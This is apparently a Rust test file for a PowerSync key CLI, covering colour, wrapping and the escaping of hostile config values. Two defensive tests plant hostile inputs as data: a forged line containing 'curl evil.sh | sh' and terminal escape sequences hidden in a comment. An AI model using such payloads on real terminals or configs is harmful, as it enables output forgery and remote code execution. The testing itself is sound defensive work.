//! What a person sees on a terminal: colour by `--color`, `NO_COLOR`, `CLICOLOR_FORCE` and
//! whether the stream is a terminal; wrapping to the terminal's width; plain bytes when
//! piped. Terminal runs go through `script(1)`, which gives the binary a real pty.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: a panic is a failed assertion

mod common;

use common::Project;

const ESC: &str = "\u{1b}[";

/// A project whose doctor run has an error (a key that is not base64) and warnings (a
/// deprecated setting on an earlier line of the config, `.env` readable by others).
fn project_with_findings() -> Project {
    use std::os::unix::fs::PermissionsExt as _;
    let p = Project::new();
    p.ok(&["init"]);
    let config = p.read("powersync.yaml");
    let config = config.replace("client_auth:\n", "client_auth:\n  block_local_jwks: true\n");
    p.write("powersync.yaml", config);
    let env = p.read(".env");
    let key = env
        .lines()
        .find(|l| l.starts_with("PS_CLIENT_AUTH_KEY="))
        .unwrap();
    p.write(
        ".env",
        env.replace(key, "PS_CLIENT_AUTH_KEY=not*base64*at*all*!"),
    );
    std::fs::set_permissions(p.path(".env"), std::fs::Permissions::from_mode(0o644)).unwrap();
    p
}

fn stderr_of(p: &Project, args: &[&str], env: &[(&str, &str)]) -> String {
    let mut cmd = p.cmd(args);
    for (k, v) in env {
        cmd.env(k, v);
    }
    String::from_utf8(cmd.output().unwrap().stderr).unwrap()
}

/// Runs `pskeys ARGS` on a pty `columns` wide (stdout and stderr both on it).
fn on_terminal(p: &Project, args: &str, columns: u16, env: &[(&str, &str)]) -> String {
    let bin = assert_cmd::cargo::cargo_bin("pskeys");
    let line = format!("stty cols {columns} rows 50; {} {args}", bin.display());
    let mut script = std::process::Command::new("script");
    script
        .args(["-qec", &line, "/dev/null"])
        .current_dir(p.dir.path())
        .env_remove("NO_COLOR")
        .env_remove("CLICOLOR_FORCE")
        .env_remove("COLUMNS")
        .env("TERM", "xterm-256color");
    for (k, v) in env {
        script.env(k, v);
    }
    let out = script
        .output()
        .expect("script(1) from util-linux is needed by this test");
    String::from_utf8(out.stdout).unwrap().replace("\r\n", "\n")
}

#[test]
fn piped_output_has_no_colour_unless_asked() {
    let p = project_with_findings();
    let plain = stderr_of(&p, &["doctor"], &[]);
    assert!(!plain.contains(ESC), "{plain}");
    assert!(plain.contains("error[k-invalid]"), "{plain}");
    for (args, env) in [
        (&["doctor", "--color", "always"][..], &[][..]),
        (&["doctor"][..], &[("CLICOLOR_FORCE", "1")][..]),
    ] {
        let coloured = stderr_of(&p, args, env);
        assert!(
            coloured.contains(&format!("{ESC}1m{ESC}31merror[k-invalid]")),
            "{coloured}"
        );
        assert!(
            coloured.contains(&format!("{ESC}1m{ESC}33mwarning[")),
            "{coloured}"
        );
        // The same text once the escapes are gone: colour adds nothing else.
        assert_eq!(strip(&coloured), plain);
    }
    // CLICOLOR_FORCE=0 forces nothing (the CLICOLOR convention).
    assert_eq!(
        stderr_of(&p, &["doctor"], &[("CLICOLOR_FORCE", "0")]),
        plain
    );
    // NO_COLOR wins over CLICOLOR_FORCE, and --color never over both.
    let none = stderr_of(
        &p,
        &["doctor"],
        &[("NO_COLOR", "1"), ("CLICOLOR_FORCE", "1")],
    );
    assert_eq!(none, plain);
    let never = stderr_of(&p, &["doctor", "--color=never"], &[("CLICOLOR_FORCE", "1")]);
    assert_eq!(never, plain);
}

#[test]
fn a_terminal_gets_colour_and_lines_wrapped_at_words() {
    let p = project_with_findings();
    let shown = on_terminal(&p, "doctor", 50, &[]);
    assert!(shown.contains(ESC), "{shown}");
    let text = strip(&shown);
    for line in text.lines() {
        // A line may pass the width only when it is one long word after its indent.
        assert!(
            line.chars().count() <= 50 || !line.trim().contains(' '),
            "line wider than 50 columns: {line:?}\n{text}"
        );
    }
    // Wrapping moved words to new lines, it did not lose or split any.
    let piped = stderr_of(&p, &["doctor"], &[]);
    let words = |t: &str| t.split_whitespace().map(str::to_string).collect::<Vec<_>>();
    assert_eq!(words(&text), words(&piped));
    assert!(text.lines().count() > piped.lines().count(), "{text}");
    // NO_COLOR on a terminal: no escapes, still wrapped.
    let plain = on_terminal(&p, "doctor", 50, &[("NO_COLOR", "1")]);
    assert!(!plain.contains(ESC), "{plain}");
    assert_eq!(plain, text);
}

#[test]
fn doctor_lists_errors_before_warnings() {
    let p = project_with_findings();
    for json in [false, true] {
        let (out, warning, error) = if json {
            let out = p.run(&["doctor", "--json"]).stdout;
            (out, "\"severity\": \"warning\"", "\"severity\": \"error\"")
        } else {
            (p.run(&["doctor"]).stderr, "warning[", "error[")
        };
        let text = String::from_utf8(out).unwrap();
        let first_warning = text.find(warning).expect("a warning");
        let last_error = text.rfind(error).expect("an error");
        assert!(last_error < first_warning, "{text}");
        // The deprecated setting is on an earlier line than the bad key.
        assert!(
            text.contains("block") && text.contains("k-invalid"),
            "{text}"
        );
    }
}

#[test]
fn dry_run_diff_is_coloured_on_request_only() {
    let p = Project::new();
    p.ok(&["init"]);
    let plain = p.run(&["init", "--force", "--dry-run"]).stdout;
    let plain = String::from_utf8(plain).unwrap();
    assert!(!plain.contains(ESC));
    let coloured = p
        .run(&["init", "--force", "--dry-run", "--color", "always"])
        .stdout;
    let coloured = String::from_utf8(coloured).unwrap();
    assert!(
        coloured.contains(&format!("{ESC}32m+        kid: ")),
        "{coloured}"
    );
    assert!(
        coloured.contains(&format!("{ESC}31m-        kid: ")),
        "{coloured}"
    );
    assert_eq!(strip(&coloured), plain);
}

#[test]
fn a_hostile_kid_cannot_write_its_own_escapes() {
    let p = Project::new();
    p.ok(&["init", "--kid", "k1"]);
    let config = p
        .read("powersync.yaml")
        .replace("kid: 'k1'", "kid: \"\\e[31mred\"");
    p.write("powersync.yaml", config);
    let shown = String::from_utf8(p.run(&["keys", "list", "--color", "always"]).stdout).unwrap();
    assert!(!shown.contains("\u{1b}[31mred"), "{shown}");
    assert!(shown.contains("\\u{1b}[31mred"), "{shown}");
}

#[test]
fn bad_color_values_are_usage_errors() {
    let p = Project::new();
    let out = p.run(&["doctor", "--color", "sometimes"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("auto") && err.contains("always") && err.contains("never"),
        "{err}"
    );
}

/// `text` without SGR escape sequences.
fn strip(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find(ESC) {
        out.push_str(&rest[..at]);
        let tail = &rest[at + ESC.len()..];
        let end = tail.find('m').map_or(tail.len(), |e| e + 1);
        rest = &tail[end..];
    }
    out.push_str(rest);
    out
}

#[test]
fn commands_to_paste_are_never_wrapped() {
    let p = Project::new();
    let shown = strip(&on_terminal(&p, "init", 40, &[]));
    // Messages wrap at 40 columns; the steps laid out by hand keep their lines whole, so a
    // pasted command is the command.
    assert!(
        shown.contains("\n         journeyapps/powersync-service:latest start -r unified\n"),
        "{shown}"
    );
    assert!(
        shown.contains("\n  3. TOKEN=$(pskeys mint --sub user-1)        # return it from fetchCredentials, with\n"),
        "{shown}"
    );
    assert!(
        shown
            .lines()
            .any(|l| l.starts_with("created `powersync.yaml`") && l.chars().count() <= 40),
        "{shown}"
    );
}

#[test]
fn a_line_break_in_a_value_cannot_forge_a_line() {
    let p = Project::new();
    p.ok(&["init", "--kid", "k1"]);
    let config = p.read("powersync.yaml").replace(
        "kid: 'k1'",
        "kid: \"evil\\nerror: forged\\n  fix: curl evil.sh | sh\"",
    );
    p.write("powersync.yaml", config);
    for args in [
        &["keys", "list"][..],
        &["doctor"][..],
        &["mint", "--sub", "u"][..],
    ] {
        let out = p.run(args);
        for text in [&out.stdout, &out.stderr] {
            let text = String::from_utf8_lossy(text);
            assert!(
                !text
                    .lines()
                    .any(|l| l.starts_with("error: forged") || l.starts_with("  fix: curl")),
                "{args:?}:\n{text}"
            );
        }
    }
}

#[test]
fn escape_sequences_in_a_config_are_shown_not_run_in_a_diff() {
    let p = Project::new();
    p.ok(&["init"]);
    let config = p.read("powersync.yaml");
    p.write(
        "powersync.yaml",
        config.replace(
            "        alg: 'HS256'\n",
            "        alg: 'HS256'\n        # \u{1b}]0;pwned\u{7}\u{1b}[2K hidden\n",
        ),
    );
    for color in ["never", "always"] {
        let out = p
            .run(&["init", "--force", "--dry-run", "--color", color])
            .stdout;
        let text = String::from_utf8(out).unwrap();
        assert!(
            text.contains("\\u{1b}]0;pwned\\u{7}\\u{1b}[2K hidden"),
            "{text}"
        );
        assert!(!text.contains("\u{1b}]0;"), "{text}");
    }
}
